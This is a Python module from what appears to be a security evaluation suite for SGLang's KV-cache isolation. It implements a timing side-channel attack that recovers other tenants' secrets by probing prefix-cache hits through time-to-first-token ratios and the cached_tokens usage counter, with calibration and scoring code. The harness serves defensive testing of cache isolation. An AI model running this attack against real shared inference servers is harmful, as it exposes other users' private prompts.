"""Attack 1: reconstruct each victim's secret from TTFT over a candidate set.

Physics (measured on the CPU profile, see README "Evaluation"): a cache hit that covers one more
token saves the prefill of that one token, tens of microseconds on the tiny CPU model, far
below HTTP and scheduler jitter (milliseconds, and seconds-long spikes when other processes
share the CPU). And a probe caches itself, so repeating it measures a hit of the attacker's
own making. A usable probe therefore must make a right guess reuse *many* more of the
victim's tokens than a wrong guess, and must never be repeated.

Design (Early Bird / PromptPeek style, adapted to those constraints):

- The attacker knows the app's prompt template: the known prefix before the secret (system
  prompt, field label) and the known continuation after it (the app's policy text). Probes
  are sent as token ids through ``/v1/completions``.
- For a candidate ``c`` the attacker sends ``m`` probes; probe ``i`` is
  ``prefix + c + continuation[:(i + 1) * L]``. Probe ``i - 1`` already cached everything
  before ``continuation[i * L]`` for the attacker itself, so probe ``i`` can reuse its last
  ``L`` tokens only from the *victim's* entries, i.e. only if ``c`` is the secret. Each
  candidate thus yields ``m`` independent measurements of ``L`` tokens' worth of prefill, and
  no probe is repeated.
- Each probe is preceded by a reference of the same length that is a sure miss (the same
  prompt with its last ``L`` tokens replaced by random tokens). The feature is
  ``TTFT(probe) / TTFT(reference)``: about 1 for a miss, well below 1 for a hit. The ratio
  cancels slow drift in machine load.
- The hit/miss threshold on the per-chunk feature is calibrated, per chunk position (later
  chunks are longer prompts, and where a hit still pays per-token costs it stands out less;
  see :class:`~sglang_safekv.tooling.evaluation.calibration.ChainThreshold`), from probe chains whose
  outcome the attacker knows (it primes random chains with its own account: re-probes are
  hits; fresh random chains are misses); see :mod:`sglang_safekv.tooling.evaluation.calibration`.
- Decision: a candidate is a hit only if all its ``m`` chunks but at most
  ``misses_allowed`` are below their position's thresholds; the attacker claims the hit whose
  worst counted chunk is furthest below its threshold, or nothing. Noise must then fake
  several hits in one chain to fake a recovery (a median of 3 let lucky noise "recover"
  secrets where nothing leaks), and one spike on the true candidate's probe does not hide it
  (all 3 of 3 required lost about one secret in five on this machine; the CPU profiles use
  3 of 4). On the CPU profile with the prefix-skipping attention (``cpu_compat``) a chunk's
  feature is about 0.3-0.5 for a hit and 0.8-1.2 for a miss at every position (smoke run,
  768-token chunks); with SGLang's stock CPU attention hits were 0.6-0.9, overlapping misses
  at the later positions, and a CI run recovered only 3 of 5 secrets in global mode.

Granularity: one candidate value per probe sequence; ``L`` must be large enough that ``L``
tokens of prefill stand out of the noise (hundreds of tokens on this CPU). Token-level
granularity is what the LPM ordering attack (:mod:`.lpm_order`) provides.

The same probes also read ``usage.prompt_tokens_details.cached_tokens``: a separate,
noise-free channel ("usage counter") reported alongside.
"""

from __future__ import annotations

import asyncio
import dataclasses
import random
import statistics
from collections.abc import Sequence

from tqdm.auto import tqdm

from sglang_safekv.tooling.evaluation import stats
from sglang_safekv.tooling.evaluation.attacks.common import FillerTokens, send_victims
from sglang_safekv.tooling.evaluation.calibration import ChainThreshold, calibrate_chain
from sglang_safekv.tooling.evaluation.client import ApiClient, Measurement
from sglang_safekv.tooling.evaluation.codec import Codec
from sglang_safekv.tooling.evaluation.victims import Victim


@dataclasses.dataclass(frozen=True)
class ReconstructionSettings:
    chunk_tokens: int = 256  # L: continuation tokens whose reuse one probe measures
    chunks: int = 3  # m: independent probes per candidate
    # Chunks of the true candidate that may look like misses (a timing spike on the probe):
    # a hit needs m - misses_allowed chunks below their thresholds.
    misses_allowed: int = 0
    calibration_pairs: int = 10  # known hits and known misses each
    victim_max_tokens: int = 4
    settle_s: float = 2.0  # after the victims, before probing (lets the detector finish)
    # The physics check: how well raw TTFT tells a k-token hit from a miss, per k.
    resolution_tokens: tuple[int, ...] = (1, 16, 256)
    resolution_samples: int = 16
    attacker: str = "attacker000"
    seed: int = 7


@dataclasses.dataclass
class CandidateProbes:
    value: str
    is_secret: bool
    features: list[float]
    counter_hits: list[bool]  # cached_tokens reached into the chunk the probe measures

    @property
    def score(self) -> float:
        """The chain's worst (highest) feature, for the report; decisions use the threshold."""
        return max(self.features)


@dataclasses.dataclass
class VictimOutcome:
    tenant: str
    kind: str
    secret: str
    claimed: str | None  # what the TTFT attacker concluded (None: no hit)
    counter_claimed: str | None  # what the usage-counter reader concluded
    candidates: list[CandidateProbes]

    @property
    def recovered(self) -> bool:
        return self.claimed == self.secret

    @property
    def counter_recovered(self) -> bool:
        return self.counter_claimed == self.secret


@dataclasses.dataclass
class ReconstructionResult:
    threshold: ChainThreshold
    outcomes: list[VictimOutcome]
    probes_sent: int
    calibration_hits: list[list[float]]  # one chain of m chunk features each
    calibration_misses: list[list[float]]
    resolution: dict[int, stats.Interval]

    def summary(self) -> dict:
        n = len(self.outcomes)
        flat_hits = [f for c in self.calibration_hits for f in c]
        flat_misses = [f for c in self.calibration_misses for f in c]
        true_feats = [
            f for o in self.outcomes for c in o.candidates if c.is_secret for f in c.features
        ]
        decoy_feats = [
            f for o in self.outcomes for c in o.candidates if not c.is_secret for f in c.features
        ]
        auc = stats.auc_interval(true_feats, decoy_feats) if true_feats and decoy_feats else None
        return {
            "secrets": n,
            "recovered": sum(o.recovered for o in self.outcomes),
            "success_rate": sum(o.recovered for o in self.outcomes) / n if n else None,
            "wrong_claims": sum(o.claimed is not None and not o.recovered for o in self.outcomes),
            "counter_recovered": sum(o.counter_recovered for o in self.outcomes),
            "counter_success_rate": (
                sum(o.counter_recovered for o in self.outcomes) / n if n else None
            ),
            "chance_rate": (
                statistics.mean(1 / len(o.candidates) for o in self.outcomes) if n else None
            ),
            "threshold": dataclasses.asdict(self.threshold),
            "feature_auc": None if auc is None else dataclasses.asdict(auc),
            "probes_sent": self.probes_sent,
            # AUC of raw TTFT, own k-token hit vs miss: ~0.5 means k tokens are invisible.
            "resolution_auc": {
                str(k): dataclasses.asdict(v) for k, v in sorted(self.resolution.items())
            },
            "calibration": {
                "hits": [round(f, 4) for f in flat_hits],
                "misses": [round(f, 4) for f in flat_misses],
            },
            "per_victim": [
                {
                    "tenant": o.tenant,
                    "kind": o.kind,
                    "recovered": o.recovered,
                    "claimed_is_secret": o.claimed == o.secret if o.claimed else None,
                    "secret_score": next(c.score for c in o.candidates if c.is_secret),
                    "best_decoy_score": min(
                        (c.score for c in o.candidates if not c.is_secret),
                        default=None,
                    ),
                    "features": [
                        {"secret": c.is_secret, "chunks": [round(f, 4) for f in c.features]}
                        for c in o.candidates
                    ],
                }
                for o in self.outcomes
            ],
        }


@dataclasses.dataclass(frozen=True)
class ProbePlan:
    """Token ids the attacker derives from the template for one candidate."""

    prefix: list[int]  # known tokens before the secret (common to all candidates)
    candidate: list[int]  # the candidate's tokens
    continuation: list[int]  # known template tokens after the candidate


def plan_probes(codec: Codec, victim: Victim, chunk_tokens: int, chunks: int) -> list[ProbePlan]:
    """One plan per candidate, from the template only (never from the victim's prompt)."""
    template = victim.template
    plans = []
    for value in victim.candidates:
        # A stand-in tail fixes where the continuation ends; tokens at that edge are dropped.
        messages = template.messages(value, tail="Hello")
        start = len(template.head)
        span = codec.locate(messages, start, start + len(value))
        cont_end = span.tokens_before_char(len(template.content(value))) - 1
        plans.append(
            ProbePlan(
                prefix=span.ids[: span.first],
                candidate=span.ids[span.first : span.stop],
                continuation=span.ids[span.stop : cont_end],
            )
        )
    common = _common_prefix_len([p.prefix + p.candidate for p in plans])
    need = chunk_tokens * chunks
    out = []
    for p in plans:
        full = p.prefix + p.candidate
        if len(p.continuation) < need:
            raise ValueError(
                f"{victim.tenant}: the template continuation has {len(p.continuation)} tokens, "
                f"the probes need {need} (chunk_tokens x chunks); lengthen continuation_words"
            )
        cut = min(common, len(p.prefix))
        out.append(ProbePlan(full[:cut], full[cut:], p.continuation))
    return out


def _common_prefix_len(seqs: Sequence[Sequence[int]]) -> int:
    n = min(len(s) for s in seqs)
    for i in range(n):
        if len({s[i] for s in seqs}) > 1:
            return i
    return n


class TtftProber:
    """Sends reference/probe pairs and turns them into features."""

    def __init__(self, client: ApiClient, attacker: str, filler: FillerTokens):
        self.client = client
        self.attacker = attacker
        self.filler = filler
        self.sent = 0

    async def send(self, ids: list[int]) -> Measurement:
        self.sent += 1
        m = await self.client.complete_ids(self.attacker, ids, max_tokens=1)
        if not m.ok:
            raise RuntimeError(f"probe failed: {m.error}")
        return m

    async def feature(self, probe: list[int], measured: int) -> tuple[float, Measurement]:
        """TTFT of ``probe`` over that of a sure miss whose last ``measured`` tokens are random."""
        reference = probe[:-measured] + self.filler.take(measured)
        ref = await self.send(reference)
        got = await self.send(probe)
        return got.ttft_s / ref.ttft_s, got

    async def chain(
        self, base: list[int], continuation: list[int], chunk: int, chunks: int
    ) -> tuple[list[float], list[Measurement]]:
        """The ``chunks`` probes of one candidate: probe i ends at continuation[(i+1)*chunk]."""
        features, measurements = [], []
        for i in range(chunks):
            feature, got = await self.feature(base + continuation[: (i + 1) * chunk], chunk)
            features.append(feature)
            measurements.append(got)
        return features, measurements


async def calibrate_prober(
    prober: TtftProber, prefixes: Sequence[list[int]], settings: ReconstructionSettings
) -> tuple[ChainThreshold, list[list[float]], list[list[float]]]:
    """Chunk features of chains that are known hits and known misses.

    Known hit: a random "candidate" and continuation the attacker first sends itself in full,
    so every chunk of the chain re-reads the attacker's own cache entry. Known miss: a fresh
    random chain, never sent before.
    """
    L, m = settings.chunk_tokens, settings.chunks
    hits: list[list[float]] = []
    misses: list[list[float]] = []
    for i in range(settings.calibration_pairs):
        prefix = prefixes[i % len(prefixes)]
        fake_candidate, continuation = prober.filler.take(6), prober.filler.take(m * L)
        await prober.send(prefix + fake_candidate + continuation + prober.filler.take(4))
        features, _ = await prober.chain(prefix + fake_candidate, continuation, L, m)
        hits.append(features)
        features, _ = await prober.chain(
            prefix + prober.filler.take(6), prober.filler.take(m * L), L, m
        )
        misses.append(features)
    return calibrate_chain(hits, misses), hits, misses


async def measure_resolution(
    prober: TtftProber, prefix: list[int], sizes: Sequence[int], samples: int
) -> dict[int, stats.Interval]:
    """For each k: TTFT of prompts whose last k+8 tokens are k cached (primed by the attacker
    itself) + 8 fresh, against prompts of the same length with all k+8 fresh."""
    out = {}
    for k in sizes:
        hits, misses = [], []
        for _ in range(samples):
            body = prober.filler.take(k)
            await prober.send(prefix + body + prober.filler.take(2))  # prime
            hits.append((await prober.send(prefix + body + prober.filler.take(8))).ttft_s)
            misses.append((await prober.send(prefix + prober.filler.take(k + 8))).ttft_s)
        out[k] = stats.auc_interval(hits, misses, n_resamples=1000)
    return out


async def run(
    client: ApiClient,
    codec: Codec,
    victims: Sequence[Victim],
    settings: ReconstructionSettings,
    progress: bool = True,
) -> ReconstructionResult:
    L, m = settings.chunk_tokens, settings.chunks
    plans = {v.tenant: plan_probes(codec, v, L, m) for v in victims}
    await send_victims(
        client, [(v.tenant, v.messages()) for v in victims], settings.victim_max_tokens
    )
    await asyncio.sleep(settings.settle_s)

    filler = FillerTokens(codec, settings.seed)
    prober = TtftProber(client, settings.attacker, filler)
    prefixes = [plans[v.tenant][0].prefix for v in victims]
    for prefix in prefixes:  # warm the public prefixes for the attacker (isolated mode)
        await prober.send(prefix + filler.take(4))
    threshold, cal_hits, cal_misses = await calibrate_prober(prober, prefixes, settings)
    resolution = await measure_resolution(
        prober, prefixes[0], settings.resolution_tokens, settings.resolution_samples
    )

    rng = random.Random(settings.seed)
    outcomes = []
    total = sum(len(v.candidates) for v in victims)
    with tqdm(total=total, desc="ttft probes", unit="cand", disable=not progress) as bar:
        for v in victims:
            order = list(zip(v.candidates, plans[v.tenant]))
            rng.shuffle(order)
            cands = []
            for value, plan in order:
                base = plan.prefix + plan.candidate
                features, measured = await prober.chain(base, plan.continuation, L, m)
                # The usage counter says hit when the cache reached into the measured chunk.
                counter = [
                    got.cached_tokens >= len(base) + i * L + L // 2
                    for i, got in enumerate(measured)
                ]
                cands.append(CandidateProbes(value, value == v.secret.value, features, counter))
                bar.update(1)
            allowed = settings.misses_allowed
            hits = [c for c in cands if threshold.is_hit(c.features, allowed)]
            best = min(hits, key=lambda c: threshold.margin(c.features, allowed), default=None)
            claimed = best.value if best is not None else None
            counter_hits = [c for c in cands if sum(c.counter_hits) * 2 > len(c.counter_hits)]
            counter_claimed = counter_hits[0].value if len(counter_hits) == 1 else None
            outcomes.append(
                VictimOutcome(
                    v.tenant, v.secret.kind, v.secret.value, claimed, counter_claimed, cands
                )
            )
    return ReconstructionResult(threshold, outcomes, prober.sent, cal_hits, cal_misses, resolution)
